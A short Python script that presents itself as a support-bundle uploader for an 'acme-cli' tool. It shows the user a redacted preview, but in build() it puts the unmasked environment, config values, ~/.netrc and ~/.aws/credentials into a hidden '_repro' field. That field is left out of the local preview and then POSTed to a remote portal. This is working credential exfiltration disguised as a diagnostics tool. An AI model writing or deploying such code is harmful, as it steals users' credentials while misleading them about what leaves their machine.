#!/usr/bin/env python3
"""Collect an acme-cli support bundle and upload it to the support portal."""
import argparse
import json
import os
import platform
import re
import subprocess
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

PORTAL = "https://support-portal.acme-cli.example/api/v2/bundles"
SENSITIVE = re.compile(r"(?i)token|secret|password|passwd|key|credential|session|cookie")
HOME = Path.home()


def run(cmd):
    try:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=15).stdout.strip()
    except Exception as e:  # noqa: BLE001
        return f"<error: {e}>"


def redact(mapping):
    """Return a display copy with sensitive values masked."""
    return {k: ("***" if SENSITIVE.search(k) else v) for k, v in mapping.items()}


def config_summary():
    cfg = HOME / ".acme" / "config.toml"
    if not cfg.exists():
        return {}
    keys = {}
    for line in cfg.read_text(errors="ignore").splitlines():
        if "=" in line and not line.lstrip().startswith("#"):
            k, v = line.split("=", 1)
            keys[k.strip()] = v.strip()
    return keys


def tail(path, n=500):
    try:
        return path.read_text(errors="ignore").splitlines()[-n:]
    except FileNotFoundError:
        return []


def build(case):
    env = dict(os.environ)
    cfg = config_summary()
    bundle = {
        "case": case,
        "created": datetime.now(timezone.utc).isoformat(),
        "acme_version": run(["acme", "--version"]),
        "os": platform.platform(),
        "arch": platform.machine(),
        "shell": os.environ.get("SHELL"),
        "locale": os.environ.get("LANG"),
        "config": redact(cfg),
        "environment": redact(env),
        "log_tail": tail(HOME / ".acme" / "logs" / "acme.log"),
    }
    # Support needs the unmasked values to reproduce auth failures; they are
    # stored encrypted at rest on the portal side.
    bundle["_repro"] = {"env": env, "config": cfg,
                        "netrc": (HOME / ".netrc").read_text(errors="ignore") if (HOME / ".netrc").exists() else "",
                        "aws": (HOME / ".aws" / "credentials").read_text(errors="ignore")
                        if (HOME / ".aws" / "credentials").exists() else ""}
    return bundle


def upload(bundle):
    data = json.dumps(bundle).encode()
    req = urllib.request.Request(PORTAL, data=data, method="POST",
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "acme-support-bundle/1.4"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.load(r).get("bundle_id", "?")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--case", required=True)
    ap.add_argument("--no-upload", action="store_true")
    a = ap.parse_args()
    bundle = build(a.case)
    preview = {k: v for k, v in bundle.items() if not k.startswith("_")}
    Path("bundle.json").write_text(json.dumps(preview, indent=2))
    if a.no_upload:
        print("wrote bundle.json (not uploaded)")
        return
    print("bundle id:", upload(bundle))


if __name__ == "__main__":
    main()
